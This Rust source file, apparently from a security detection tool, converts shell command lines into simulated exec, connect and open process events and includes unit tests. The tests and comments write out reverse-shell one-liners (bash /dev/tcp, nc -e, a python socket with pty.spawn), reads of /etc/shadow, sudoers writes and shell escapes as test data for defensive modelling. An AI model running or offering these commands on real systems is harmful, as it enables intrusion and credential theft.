fn su_args(args: &[String]) -> (Option<String>, Option<String>) {
    let (mut cmd, mut user) = (None, None);
    let mut i = 0;
    while i < args.len() {
        let a = args[i].as_str();
        if let Some(c) = a.strip_prefix("--command=") {
            cmd = Some(c.to_string());
        } else if a == "--command"
            || (a.starts_with('-')
                && !a.starts_with("--")
                && a.ends_with('c')
                && a[1..].chars().all(|c| c.is_ascii_alphabetic()))
        {
            cmd = args.get(i + 1).cloned();
            i += 1;
        } else if matches!(
            a,
            "-s" | "--shell" | "-g" | "--group" | "-G" | "--supp-group" | "-w" | "-u" | "--user"
        ) {
            if a == "-u" || a == "--user" {
                user = args.get(i + 1).cloned();
            }
            i += 1;
        } else if a == "--" {
            // runuser -u user -- cmd: the command is runuser's own.
            break;
        } else if !a.starts_with('-') && user.is_none() {
            user = Some(a.to_string());
        }
        i += 1;
    }
    (cmd, user)
}

/// What a program starts because its arguments say so (`starts`), under it
/// or in its place. It is a wrapper (makes none of the connections and
/// opens none of the files its arguments name) when what it starts covers
/// them all: `find / -exec cat /etc/shadow {} ;` does not open the file
/// itself, `nc -e /bin/sh 10.0.0.1 4444` does connect.
fn started(argv: &[String], me: usize, depth: usize, out: &mut Out) {
    let ss = starts::starts(argv);
    if ss.is_empty() {
        return;
    }
    let words_of = |s: &Start| match s {
        Start::Replace(v) | Start::Child(v) => v.clone(),
        Start::Shell(c) | Start::ReplaceShell(c) => starts::split(c),
    };
    let text: String = ss.iter().flat_map(words_of).collect::<Vec<_>>().join(" ");
    let covered_addrs: Vec<(String, u32)> =
        ss.iter().flat_map(|s| addresses(&words_of(s))).collect();
    let own_addrs = addresses(argv);
    let own_files = files(argv, "~");
    if (!own_addrs.is_empty() || !own_files.is_empty())
        && own_addrs.iter().all(|a| covered_addrs.contains(a))
        && own_files.iter().all(|(p, _)| text.contains(p.as_str()))
    {
        out.wraps(me);
    }
    for s in ss {
        if depth > MAX_DEPTH || out.full() {
            return;
        }
        let (argv, replace) = match s {
            Start::Replace(v) => (v, true),
            Start::Child(v) => (v, false),
            Start::Shell(c) => (vec!["sh".into(), "-c".into(), c], false),
            Start::ReplaceShell(c) => (vec!["sh".into(), "-c".into(), c], true),
        };
        if argv.first().is_none_or(|p| p.is_empty()) {
            continue;
        }
        let id = if replace {
            out.exec(None, Some(Some(me)), argv.clone())
        } else {
            out.exec(Some(me), None, argv.clone())
        };
        wrapped(&argv, id, depth + 1, out);
        // The program is gone: nothing after its exec runs.
        if replace {
            return;
        }
    }
}

/// The words and redirections of a script that is one simple command.
type Simple = (Vec<Word>, Vec<(String, Option<Word>)>);

fn one_command(script: &str) -> Option<Simple> {
    let mut ws = Vec::new();
    let mut rs = Vec::new();
    for t in lex(script) {
        match t {
            Tok::Word(w) if w.subst.is_empty() => ws.push(w),
            Tok::Redir { op, target } => rs.push((op, target)),
            _ => return None,
        }
    }
    let keyword = ws.first().is_some_and(|w| {
        !w.quoted && (KEYWORDS.contains(&w.text.as_str()) || w.text == "for" || w.text == "case")
    });
    (!ws.is_empty() && !keyword).then_some((ws, rs))
}

/// The command a wrapper runs: its arguments after its own options.
fn inner_command(prog: &str, args: &[String]) -> Vec<String> {
    // Options that take a value.
    let valued: &[&str] = match prog {
        "sudo" | "doas" => &["-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U"],
        "nice" => &["-n"],
        "ionice" => &["-c", "-n", "-p"],
        "timeout" => &["-s", "-k", "--signal", "--kill-after"],
        "xargs" => &["-I", "-n", "-P", "-L", "-d", "-a", "-s", "-E"],
        "stdbuf" => &["-i", "-o", "-e"],
        "env" => &["-u", "-C", "-S"],
        "watch" => &["-n", "-d"],
        "nsenter" => &["-t", "--target", "-S", "-G", "-r", "-w"],
        "pkexec" => &["--user"],
        "strace" | "ltrace" => &["-o", "-e", "-p", "-s", "-u", "-E", "-I", "-P", "-a", "-b"],
        "time" => &["-f", "-o", "--format", "--output"],
        "fakeroot" => &["-l", "-s", "-i", "-b"],
        "sshpass" => &["-p", "-f", "-d", "-e"],
        "perf" => &["-e", "-o", "-p", "-t", "-r", "-c", "-F", "-G", "-u"],
        "unshare" => &["-S", "-G", "-R", "-w", "--setuid", "--setgid"],
        "numactl" => &["-C", "-N", "-m", "-p", "-i"],
        "cgexec" => &["-g"],
        "chpst" => &[
            "-u", "-U", "-e", "-n", "-l", "-L", "-m", "-d", "-o", "-p", "-f", "-c", "-r",
        ],
        "runuser" => &["-u", "-g", "-G", "-s", "-w"],
        "proxychains" | "proxychains4" => &["-f"],
        "choom" => &["-n", "-p"],
        "cpulimit" => &["-l", "-p", "-e", "--limit", "--pid", "--exe"],
        "aa-exec" => &["-p", "-n", "--profile", "--namespace"],
        "openvt" => &["-c", "-u", "--console"],
        "pidstat" => &["-p", "-C", "-G"],
        "grc" => &["-c", "--config"],
        _ => &[],
    };
    // `taskset -p`, `prlimit --pid`: they act on a running process.
    let on_pid = match prog {
        "taskset" => args.iter().any(|a| a == "-p" || a == "--pid"),
        "prlimit" => args.iter().any(|a| a == "-p" || a.starts_with("--pid")),
        _ => false,
    };
    if on_pid {
        return Vec::new();
    }
    // `perf stat|record|trace cmd`: the subcommand first.
    let args = if prog == "perf" {
        match args.first().map(String::as_str) {
            Some("stat" | "record" | "trace" | "mem" | "c2c" | "sched" | "kvm") => &args[1..],
            _ => return Vec::new(),
        }
    } else {
        args
    };
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == "--" {
            i += 1;
            break;
        }
        if a.starts_with('-') && a.len() > 1 {
            i += if valued.contains(&a.as_str()) { 2 } else { 1 };
            continue;
        }
        if prog == "env" && is_assignment(a) {
            i += 1;
            continue;
        }
        break;
    }
    // Positional arguments before the command, then options again
    // (`setarch x86_64 -R cmd`).
    let skip = match prog {
        "timeout" | "flock" | "chrt" | "chroot" | "setarch" | "taskset" | "logsave" | "setlock"
        | "faketime" => 1,
        _ => 0,
    };
    i = (i + skip).min(args.len());
    if skip > 0 {
        while i < args.len() && args[i].starts_with('-') && args[i].len() > 1 && args[i] != "--" {
            i += 1;
        }
        if args.get(i).is_some_and(|a| a == "--") {
            i += 1;
        }
    }
    args[i..].to_vec()
}

fn is_name(n: &str) -> bool {
    !n.is_empty()
        && n.chars()
            .enumerate()
            .all(|(i, c)| c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit()))
}

fn is_assignment(w: &str) -> bool {
    match w.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && name.chars().enumerate().all(|(i, c)| {
                    c == '_' || c.is_ascii_alphabetic() || (i > 0 && c.is_ascii_digit())
                })
        }
        None => false,
    }
}

fn basename(p: &str) -> &str {
    p.rsplit('/').next().unwrap_or(p)
}

/// The process a line runs in: a login shell, a job runner's shell, or the
/// `sh -c` a web server or cron started.
#[derive(Debug, Clone)]
pub struct Shell<'a> {
    pub pid: u32,
    pub comm: &'a str,
    pub ppid: u32,
    pub parent_comm: &'a str,
    pub uid: u32,
    pub cwd: &'a str,
    /// What `~` is.
    pub home: &'a str,
    /// The host's executable for a program named without a path, by name
    /// (`sh` is /usr/bin/dash on Debian); /usr/bin/NAME where unknown.
    pub exes: Option<&'a Exes>,
}

/// A host's executable for each program name, as its captures report it.
pub type Exes = HashMap<String, String>;

/// The executable the kernel reports for `name` run by PATH lookup on a
/// host whose executables are `exes` (/usr/bin/NAME where unknown).
pub fn exe_of(exes: Option<&Exes>, name: &str) -> String {
    exes.and_then(|m| m.get(name))
        .cloned()
        .unwrap_or_else(|| format!("/usr/bin/{name}"))
}

/// The exec, connect and open events a command line run in `shell` causes,
/// as the collector reports them (kind, pids, names, argv, paths, flags,
/// addresses); the caller sets the org, workload, host and times. `new_pid`
/// gives each new process its pid.
pub fn events(line: &str, shell: &Shell<'_>, new_pid: impl FnMut() -> u32) -> Vec<JsonEvent> {
    events_in(line, shell, &mut Vars::default(), new_pid)
}

/// `events` in a shell session with `vars` set (a login shell's earlier
/// lines); the line's assignments are kept in `vars`.
pub fn events_in(
    line: &str,
    shell: &Shell<'_>,
    vars: &mut Vars,
    mut new_pid: impl FnMut() -> u32,
) -> Vec<JsonEvent> {
    #[derive(Clone)]
    struct P {
        pid: u32,
        comm: String,
        exe: String,
        ppid: u32,
        parent_comm: String,
        uid: u32,
    }
    // procs[0]: the line's shell; procs[n + 1]: exec number n's process.
    let mut procs: Vec<P> = vec![P {
        pid: shell.pid,
        comm: shell.comm.to_string(),
        exe: exe_of(shell.exes, shell.comm),
        ppid: shell.ppid,
        parent_comm: shell.parent_comm.to_string(),
        uid: shell.uid,
    }];
    let ix = |s: Option<usize>| s.map_or(0, |j| j + 1);
    // Pids handed out to children that opened a redirection before their exec.
    let mut early: std::collections::HashMap<usize, u32> = Default::default();
    let mut out = Vec::new();
    let base = |kind: &str, p: &P| JsonEvent {
        kind: Some(kind.into()),
        pid: Some(p.pid),
        ppid: Some(p.ppid),
        uid: Some(p.uid),
        gid: Some(p.uid),
        comm: Some(p.comm.clone()),
        parent_comm: Some(p.parent_comm.clone()),
        exe: Some(p.exe.clone()),
        ..JsonEvent::default()
    };
    let connects = |p: &P, words: &[String], out: &mut Vec<JsonEvent>| {
        for (ip, port) in addresses(words) {
            out.push(JsonEvent {
                remote_ip: Some(ip),
                remote_port: Some(port),
                protocol: Some("tcp".into()),
                ..base("connect", p)
            });
        }
    };
    let open = |p: &P, path: String, flags: u32, out: &mut Vec<JsonEvent>| {
        out.push(JsonEvent {
            path: Some(path),
            flags: Some(flags),
            ..base("open", p)
        });
    };
    for step in expand_in(line, vars) {
        match step {
            Step::Exec {
                parent,
                replaces,
                wrapper,
                as_root,
                argv,
            } => {
                let prog = &argv[0];
                let name = basename(prog);
                let comm: String = name.chars().take(15).collect();
                let exe = if prog.starts_with('/') {
                    prog.clone()
                } else if prog.contains('/') {
                    format!(
                        "{}/{}",
                        shell.cwd.trim_end_matches('/'),
                        prog.trim_start_matches("./")
                    )
                } else {
                    exe_of(shell.exes, &comm)
                };
                let me = procs.len() - 1;
                let mut p = match replaces {
                    Some(r) => P {
                        comm,
                        exe,
                        ..procs[ix(r)].clone()
                    },
                    None => {
                        let up = &procs[ix(parent)];
                        P {
                            pid: early.remove(&me).unwrap_or_else(&mut new_pid),
                            comm,
                            exe,
                            ppid: up.pid,
                            parent_comm: up.comm.clone(),
                            uid: up.uid,
                        }
                    }
                };
                if as_root {
                    p.uid = 0;
                }
                out.push(JsonEvent {
                    argv: Some(argv.clone()),
                    cwd: Some(shell.cwd.to_string()),
                    ..base("exec", &p)
                });
                if !wrapper {
                    connects(&p, &argv, &mut out);
                    for (path, write) in files(&argv, shell.home) {
                        open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
                    }
                }
                if let Some(r) = replaces {
                    procs[ix(r)] = p.clone();
                }
                procs.push(p);
            }
            Step::Open { by, path, write } => {
                let p = match by {
                    Opener::Shell(s) => procs[ix(s)].clone(),
                    Opener::Child { exec, shell: s } => {
                        let up = &procs[ix(s)];
                        let pid = *early.entry(exec).or_insert_with(&mut new_pid);
                        P {
                            pid,
                            ppid: up.pid,
                            parent_comm: up.comm.clone(),
                            ..up.clone()
                        }
                    }
                };
                if path.starts_with("/dev/tcp/") || path.starts_with("/dev/udp/") {
                    connects(&p, &[path], &mut out);
                    continue;
                }
                let path = match path.strip_prefix("~/") {
                    Some(rest) => format!("{}/{rest}", shell.home.trim_end_matches('/')),
                    None => path,
                };
                if reported_open(&path, write) {
                    open(&p, path, if write { O_TRUNC_WRITE } else { 0 }, &mut out);
                }
            }
        }
    }
    out
}

/// `O_WRONLY | O_CREAT | O_TRUNC`, as a shell's `>` opens.
const O_TRUNC_WRITE: u32 = 0o1101;

#[cfg(test)]
mod tests {
    use super::*;

    fn execs(line: &str) -> Vec<(Option<usize>, String)> {
        expand(line)
            .into_iter()
            .filter_map(|s| match s {
                Step::Exec { parent, argv, .. } => Some((parent, argv.join(" "))),
                _ => None,
            })
            .collect()
    }

    fn opens(line: &str) -> Vec<(Opener, String, bool)> {
        expand(line)
            .into_iter()
            .filter_map(|s| match s {
                Step::Open { by, path, write } => Some((by, path, write)),
                _ => None,
            })
            .collect()
    }

    /// A script's events from `sh`, pids counted from `first + 1`, each
    /// also as `kind comm<parent pid/ppid` followed by `detail(event)`.
    fn traced(
        script: &str,
        sh: &Shell<'_>,
        first: u32,
        detail: impl Fn(&JsonEvent) -> String,
    ) -> (Vec<JsonEvent>, Vec<String>) {
        let mut next = first;
        let evs = events(script, sh, || {
            next += 1;
            next
        });
        let got = evs
            .iter()
            .map(|e| {
                format!(
                    "{} {}<{} {}/{}{}",
                    e.kind.as_deref().unwrap(),
                    e.comm.as_deref().unwrap(),
                    e.parent_comm.as_deref().unwrap(),
                    e.pid.unwrap(),
                    e.ppid.unwrap(),
                    detail(e),
                )
            })
            .collect();
        (evs, got)
    }

    /// Where an event went: its file or its peer's address.
    fn target(e: &JsonEvent) -> String {
        e.path.clone().or(e.remote_ip.clone()).unwrap_or_default()
    }

    #[test]
    fn every_line_and_list_member_is_a_command_and_builtins_start_nothing() {
        let script = "echo '{\"scripts\": {\"x\": \"/bin/sh\"}}' >package.json\nnpm -C . run x";
        assert_eq!(execs(script), [(None, "npm -C . run x".to_string())]);
        assert_eq!(
            opens(script),
            [(Opener::Shell(None), "package.json".to_string(), true)]
        );
        assert_eq!(
            execs("cd /tmp && export X=1; ls -la | grep x || true"),
            [(None, "ls -la".to_string()), (None, "grep x".to_string())]
        );
        // Keywords, comments, assignments and line continuations.
        assert_eq!(
            execs(
                "if [ \"$(uname)\" = 'FreeBSD' ]; then service -e; else systemctl \\\n --type=service; fi # done"
            ),
            [
                (None, "uname".to_string()),
                (None, "service -e".to_string()),
                (None, "systemctl --type=service".to_string())
            ]
        );
        assert_eq!(execs("A=1 B=2 make all"), [(None, "make all".to_string())]);
        // Text typed into an interactive program is not the shell's; its
        // shell escape starts a shell under it.
        assert_eq!(
            execs(
                "id\nJava.type('java.lang.Runtime').getRuntime().exec('id')\nftp\nget /x y\n!/bin/sh"
            ),
            [
                (None, "id".to_string()),
                (None, "ftp".to_string()),
                (Some(1), "sh -c /bin/sh".to_string()),
                (Some(2), "/bin/sh".to_string()),
            ]
        );
        assert_eq!(execs("X=$(id -u)"), [(None, "id -u".to_string())]);
    }

    #[test]
    fn redirections_are_opened_by_the_forked_child_or_the_shell() {
        assert_eq!(
            opens("cat /etc/passwd > /tmp/p 2>/dev/null; echo x >> ~/.bashrc; sort < in.txt 2>&1"),
            [
                (
                    Opener::Child {
                        exec: 0,
                        shell: None
                    },
                    "/tmp/p".to_string(),
                    true
                ),
                (
                    Opener::Child {
                        exec: 0,
                        shell: None
                    },
                    "/dev/null".to_string(),
                    true
                ),
                (Opener::Shell(None), "~/.bashrc".to_string(), true),
                (
                    Opener::Child {
                        exec: 1,
                        shell: None
                    },
                    "in.txt".to_string(),
                    false
                ),
            ]
        );
        assert_eq!(
            execs("cat /etc/passwd>/tmp/p"),
            [(None, "cat /etc/passwd".to_string())]
        );
        // A reverse shell's redirection is the connect, not a word.
        let s = expand("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(
            s,
            [
                Step::Open {
                    by: Opener::Child {
                        exec: 0,
                        shell: None
                    },
                    path: "/dev/tcp/10.0.0.1/4444".into(),
                    write: true
                },
                Step::Exec {
                    parent: None,
                    replaces: None,
                    wrapper: false,
                    as_root: false,
                    argv: vec!["bash".into(), "-i".into()]
                }
            ]
        );
        // A here document's body is data.
        assert_eq!(
            execs("cat <<EOF > /tmp/x.sh\nrm -rf /\nEOF\nchmod +x /tmp/x.sh"),
            [
                (None, "cat".to_string()),
                (None, "chmod +x /tmp/x.sh".to_string())
            ]
        );
    }

    #[test]
    fn wrappers_start_what_they_wrap_under_the_right_parent() {
        assert_eq!(
            execs("sudo -u root sh -c 'echo x > /etc/sudoers.d/a; id'"),
            [
                (
                    None,
                    "sudo -u root sh -c echo x > /etc/sudoers.d/a; id".to_string()
                ),
                (Some(0), "sh -c echo x > /etc/sudoers.d/a; id".to_string()),
                (Some(1), "id".to_string()),
            ]
        );
        assert_eq!(
            opens("sudo sh -c 'echo x > /etc/sudoers.d/a'"),
            [(Opener::Shell(Some(1)), "/etc/sudoers.d/a".to_string(), true)]
        );
        let s = expand("nohup env X=1 ./run.sh &");
        assert_eq!(
            s[2],
            Step::Exec {
                parent: None,
                replaces: Some(Some(1)),
                wrapper: false,
                as_root: false,
                argv: vec!["./run.sh".into()]
            }
        );
        assert_eq!(
            execs("su postgres -c 'psql -c \"select 1\"'"),
            [
                (None, "su postgres -c psql -c \"select 1\"".to_string()),
                (Some(0), "bash -c psql -c \"select 1\"".to_string()),
                (Some(1), "psql -c select 1".to_string()),
            ]
        );
        // bash runs a `-c` of one command in its own process (dash forks).
        assert!(matches!(
            &expand("su postgres -c 'psql -c \"select 1\"'")[2],
            Step::Exec {
                replaces: Some(Some(1)),
                ..
            }
        ));
        // `watch` runs its command through `sh -c`.
        assert_eq!(
            execs("watch -n1 'reset; exec /bin/sh'"),
            [
                (None, "watch -n1 reset; exec /bin/sh".to_string()),
                (Some(0), "sh -c reset; exec /bin/sh".to_string()),
                (Some(1), "reset".to_string()),
                (Some(1), "/bin/sh".to_string()),
            ]
        );
        assert_eq!(
            execs("echo `whoami` $(cat /etc/hostname)"),
            [
                (None, "whoami".to_string()),
                (None, "cat /etc/hostname".to_string())
            ]
        );
    }

    #[test]
    fn events_carry_the_pids_and_names_the_kernel_would_report() {
        let sh = Shell {
            pid: 500,
            comm: "sh",
            ppid: 400,
            parent_comm: "php-fpm8.2",
            uid: 33,
            cwd: "/var/www/app",
            home: "/var/www",
            exes: None,
        };
        let (evs, got) = traced(
            "echo x >~/.x; curl -s http://203.0.113.9:8080/a >/tmp/a 2>/dev/null\nsudo sh -c 'cat /etc/shadow'",
            &sh,
            1000,
            |e| {
                let argv = e.argv.as_ref().map(|a| a.join(" ")).unwrap_or_default();
                format!(" {}{argv}", target(e))
            },
        );
        assert_eq!(
            got,
            [
                // The builtin's redirection: the shell itself.
                "open sh<php-fpm8.2 500/400 /var/www/.x",
                // curl's redirection: its forked child, still named sh.
                "open sh<sh 1001/500 /tmp/a",
                "exec curl<sh 1001/500 curl -s http://203.0.113.9:8080/a",
                "connect curl<sh 1001/500 203.0.113.9",
                "exec sudo<sh 1002/500 sudo sh -c cat /etc/shadow",
                "exec sh<sudo 1003/1002 sh -c cat /etc/shadow",
                "exec cat<sh 1004/1003 cat /etc/shadow",
                "open cat<sh 1004/1003 /etc/shadow",
            ]
        );
        assert_eq!(evs[3].remote_port, Some(8080));
        assert_eq!(evs[1].flags, Some(0o1101));
        assert_eq!(evs[7].flags, Some(0));
        // sudo's command runs as root.
        assert_eq!(evs[4].uid, Some(33));
        assert_eq!((evs[5].uid, evs[6].uid), (Some(0), Some(0)));

        // A wrapper's arguments are its command's: one connect, by the
        // process that makes it; `exec` and bash's one-command `-c` keep
        // the process.
        let (_, got) = traced(
            "bash -c 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'\nexec /bin/sh -i",
            &sh,
            2000,
            |_| String::new(),
        );
        assert_eq!(
            got,
            [
                "exec bash<sh 2001/500",
                "connect bash<sh 2001/500",
                "exec bash<sh 2001/500",
                "exec sh<php-fpm8.2 500/400",
            ]
        );
    }

    #[test]
    fn variables_the_script_sets_are_expanded() {
        assert_eq!(
            execs("X=/bin/sh; $X -i"),
            [(None, "/bin/sh -i".to_string())]
        );
        // An unquoted variable is split into words; nc's `-e` execs the
        // shell in nc's process.
        assert_eq!(
            execs("CMD='nc -e /bin/sh 10.0.0.1 4444'\n$CMD"),
            [
                (None, "nc -e /bin/sh 10.0.0.1 4444".to_string()),
                (None, "/bin/sh".to_string())
            ]
        );
        // Single quotes and `\$` keep `$`; `${X:-…}` has a default.
        assert_eq!(
            execs("X=1; export Y=\"a b\"; cat '$X' \\$X \"$X\" \"$Y\" ${Z:-/etc/z}"),
            [(None, "cat $X $X 1 a b /etc/z".to_string())]
        );
        // `X=1 cmd` sets X for cmd only; an unknown variable stays as written.
        assert_eq!(
            execs("X=1 env; ls $X $UNSET"),
            [
                (None, "env".to_string()),
                (None, "ls $X $UNSET".to_string())
            ]
        );
        // An assignment's value is not split; `${V%-*}` is not a default;
        // a child shell's assignments are its own.
        assert_eq!(
            execs("O='-avz --delete'; X=$O; rsync $X ${V%-*} a b; sh -c 'Y=1'; ls $Y"),
            [
                (None, "rsync -avz --delete ${V%-*} a b".to_string()),
                (None, "sh -c Y=1".to_string()),
                (None, "ls $Y".to_string())
            ]
        );
        // A login session keeps variables from one line to the next.
        let mut vars = Vars::default();
        expand_in("PID=42", &mut vars);
        let s = expand_in("cat /proc/$PID/maps", &mut vars);
        assert!(matches!(&s[0], Step::Exec { argv, .. } if argv[1] == "/proc/42/maps"));
        // `$(mktemp)` names a new file under /tmp each time.
        let got = execs("A=$(mktemp); B=$(mktemp -d); cp /etc/shadow $A; ls $B");
        assert_eq!(got.len(), 4);
        let (a, b) = (&got[2].1, &got[3].1);
        assert!(a.starts_with("cp /etc/shadow /tmp/tmp."), "{a}");
        assert!(b.starts_with("ls /tmp/tmp."), "{b}");
        assert_ne!(a[15..], b[3..]);
        // The here document's delimiter is literal.
        assert_eq!(
            execs("cat <<'$E'\nid\n$E\nuname"),
            [(None, "cat".to_string()), (None, "uname".to_string())]
        );
    }

    #[test]
    fn what_a_program_starts_runs_under_it() {
        assert_eq!(
            execs("find . -exec /bin/sh -p \\; -quit"),
            [
                (None, "find . -exec /bin/sh -p ; -quit".to_string()),
                (Some(0), "/bin/sh -p".to_string())
            ]
        );
        assert_eq!(
            execs("awk 'BEGIN {system(\"/bin/sh\")}'"),
            [
                (None, "awk BEGIN {system(\"/bin/sh\")}".to_string()),
                (Some(0), "sh -c /bin/sh".to_string()),
                (Some(1), "/bin/sh".to_string())
            ]
        );
        // perl's exec replaces perl.
        assert!(matches!(
            &expand("perl -e 'exec \"/bin/sh\";'")[1],
            Step::Exec { replaces: Some(Some(0)), argv, .. } if argv == &["/bin/sh"]
        ));
        // `sudo -s` and a bare `su` start a root shell.
        let s = expand("sudo -s; su");
        let roots: Vec<(String, bool)> = s
            .iter()
            .filter_map(|x| match x {
                Step::Exec { argv, as_root, .. } => Some((argv.join(" "), *as_root)),
                _ => None,
            })
            .collect();
        assert_eq!(
            roots,
            [
                ("sudo -s".to_string(), false),
                ("bash".to_string(), true),
                ("su".to_string(), false),
                ("bash".to_string(), true)
            ]
        );
        // Wrappers' options and positional arguments.
        assert_eq!(
            execs("setarch x86_64 -R /bin/sh; taskset -p 1 42; chroot /")[1..],
            [
                (None, "/bin/sh".to_string()),
                (None, "taskset -p 1 42".to_string()),
                (None, "chroot /".to_string()),
                (None, "sh".to_string())
            ]
        );

        // nc connects and then becomes the shell; python's socket code
        // connects, and pty.spawn's shell is its child.
        let sh = Shell {
            pid: 500,
            comm: "bash",
            ppid: 400,
            parent_comm: "sshd",
            uid: 1000,
            cwd: "/home/u",
            home: "/home/u",
            exes: None,
        };
        let (_, got) = traced(
            "nc -e /bin/sh 10.0.0.1 4444\npython3 -c 'import socket,pty;s=socket.socket();s.connect((\"10.0.0.2\",5555));pty.spawn(\"/bin/sh\")'\nfind /etc -exec cat /etc/shadow \\;",
            &sh,
            1000,
            |e| format!(" {}", target(e)),
        );
        assert_eq!(
            got,
            [
                "exec nc<bash 1001/500 ",
                "connect nc<bash 1001/500 10.0.0.1",
                "exec sh<bash 1001/500 ",
                "exec python3<bash 1002/500 ",
                "connect python3<bash 1002/500 10.0.0.2",
                "exec sh<python3 1003/1002 ",
                "exec find<bash 1004/500 ",
                "exec cat<find 1005/1004 ",
                "open cat<find 1005/1004 /etc/shadow",
            ]
        );
    }

    #[test]
    fn hostile_lines_stay_bounded() {
        // Variables that double at each step stay within the expansion cap.
        let mut s = "A=xxxxxxxxxxxxxxxx\n".to_string();
        for _ in 0..40 {
            s.push_str("A=$A$A$A$A\n");
        }
        s.push_str("ls $A");
        let got = execs(&s);
        assert!(got.iter().map(|(_, a)| a.len()).sum::<usize>() <= 2 * MAX_EXPANSION);
        let many: String = (0..10_000).map(|i| format!("V{i}=x; ")).collect();
        let mut vars = Vars::default();
        expand_in(&many, &mut vars);
        assert_eq!(vars.0.len(), MAX_VARS);
        let bomb = "$(".repeat(500) + &")".repeat(500);
        assert!(expand(&bomb).len() <= MAX_EXECS * 2);
        let many = "a;".repeat(10_000);
        assert_eq!(execs(&many).len(), MAX_EXECS);
        // Deep wrappers, long keyword runs, many redirections and shell
        // escapes stay bounded too.
        assert!(execs(&"exec ".repeat(100_000)).len() <= MAX_EXECS);
        assert!(execs(&("if ".repeat(100_000) + "id")).len() <= 1);
        assert!(execs(&(">a ".repeat(20_000) + "id")).len() <= 1);
        assert_eq!(
            execs(&("vi\n".to_string() + &"!x\n".repeat(10_000))).len(),
            MAX_EXECS
        );
        assert!(execs(&"sudo ".repeat(10_000)).len() <= MAX_EXECS);
        for s in [
            "'",
            "\"",
            "$(",
            "`",
            "<<",
            ">",
            "\\",
            "2>&",
            "case x in",
            "for",
        ] {
            expand(s);
        }
    }
}
